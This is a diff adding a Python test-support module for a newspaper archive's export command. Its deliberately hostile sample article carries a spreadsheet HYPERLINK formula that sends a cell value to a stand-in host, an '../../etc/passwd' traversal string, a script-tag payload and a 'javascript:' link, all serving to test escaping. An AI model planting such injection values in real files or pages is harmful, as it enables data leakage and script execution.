@@ -1,0 +1,131 @@
+"""An archive to export: the sample newspaper, its section menus, and an article whose words are hostile."""
+
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+from click.testing import CliRunner
+
+from archive.cli.main import cli
+from archive.model import (
+    Article,
+    Author,
+    Capture,
+    Kind,
+    Link,
+    Menu,
+    PageKey,
+    Paragraph,
+    Subhead,
+    Tag,
+    Teaser,
+)
+from archive.store.archive import Archive
+from tests.support.running.time_limit import LONGEST
+from tests.support.samples.sample_archive import PAPER, VISITS, make_sample_archive, visit
+
+HOSTILE = 900100
+# What XML forbids (U+FFFE), what it would take for markup, what a spreadsheet would, and no name of a file.
+TITLE = '=HYPERLINK("http://x.example/?q="&A1): ../../etc/passwd <b>&amp;]]>\ufffe ' + "sehr " * 60 + "lang"
+WILD = Article(
+    title=TITLE,
+    lead="@SUM(1+1) <script>alert(1)</script>\uffff",
+    caption="-2+3 und \U0001f600",
+    dateline="Bremen taz",
+    blocks=(
+        Paragraph("Er sagte: „So, ja“, und \"nein\" & 'doch'; dann; kam\tnichts. Hier steht es."),
+        Subhead("Zwei < drei > eins"),
+        Paragraph("Verse stehen\nin Zeilen,\nkurzen."),
+    ),
+    published=VISITS[0].date(),
+    links=(
+        Link(1, "/Quarz/!900001", "Er sagte", 0, 8),
+        Link(2, "https://example.org/a b?q=ä&r=100%#[x]", "„So, ja“", 10, 18),
+        Link(3, "javascript:alert(1)", "nein", 25, 29),
+        Link(4, "https://[broken", "doch", 33, 37),
+    ),
+    authors=(Author("O'Hara <x@example.org>", 79), Author("\u00c4nne, Groß", None)),
+    tags=(Tag('Q & "A"', 80),),
+    related=(Teaser("Verkehr: <Andere> & mehr", None, "/!900002"), Teaser("Ohne Ziel")),
+)
+SECTION = PageKey(Kind.SECTION, 4611)
+LISTED = (900001, 900002)
+
+
+def more_captures() -> Iterator[Capture]:
+    yield visit(PageKey(Kind.ARTICLE, HOSTILE), VISITS[0], WILD)
+    undated = replace(WILD, title="Ohne Datum: Meldung", published=None, links=())
+    yield visit(PageKey(Kind.ARTICLE, HOSTILE + 1), VISITS[1], undated)
+    teasers = tuple(Teaser(f"Meldung {number}", "Text.", f"/!{number}") for number in LISTED)
+    yield visit(SECTION, VISITS[0], Menu(title="Verkehr & <Wege>", entries=teasers[:1]))
+    yield visit(SECTION, VISITS[2], Menu(title="Verkehr & <Wege>", entries=teasers))
+
+
+def make_archive(path: Path) -> Path:
+    make_sample_archive(path)
+    with Archive.to_write(path) as archive:
+        archive.record(more_captures())
+    return path
+
+
+class Ended(NamedTuple):
+    """How a command ended. ``streamed`` is what it wrote to stdout, as bytes."""
+
+    code: int
+    streamed: bytes
+    stderr: str
+
+    @property
+    def lines(self) -> list[str]:
+        return self.streamed.decode().splitlines()
+
+
+def taz_archive(*args: object) -> Ended:
+    """The command, in this process: another one takes a second to start. What it does not catch is raised."""
+    ended = CliRunner().invoke(cli, list(map(str, args)), catch_exceptions=False)
+    return Ended(ended.exit_code, ended.stdout_bytes, ended.stderr)
+
+
+READERS = Path(sys.prefix, "readers")  # what `make setup` installs apart
+
+
+def python(program: str | Path, *args: object) -> str:
+    """What a program that wants pandas or matplotlib says on stdout. Raises if it fails."""
+    paths = os.pathsep.join([str(READERS), os.environ.get("PYTHONPATH", "")])
+    command = [
+        sys.executable,
+        *([program] if isinstance(program, Path) else ["-c", program]),
+        *map(str, args),
+    ]
+    env = {**os.environ, "PYTHONPATH": paths}
+    return subprocess.run(command, env=env, stdout=subprocess.PIPE, text=True, check=True).stdout
+
+
+needs_readers = pytest.mark.skipif(not READERS.is_dir(), reason="make setup installs pandas and matplotlib")
+
+
+def tool(name: str, *args: object) -> str:
+    """What a program that was installed with the tests says on stdout, whatever its exit code."""
+    command = [str(Path(sys.executable).with_name(name)), *map(str, args)]
+    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=LONGEST).stdout
+
+
+__all__ = [
+    "HOSTILE",
+    "LISTED",
+    "PAPER",
+    "SECTION",
+    "TITLE",
+    "VISITS",
+    "WILD",
+    "make_archive",
+    "needs_readers",
+    "python",
+    "taz_archive",
+    "tool",
+]
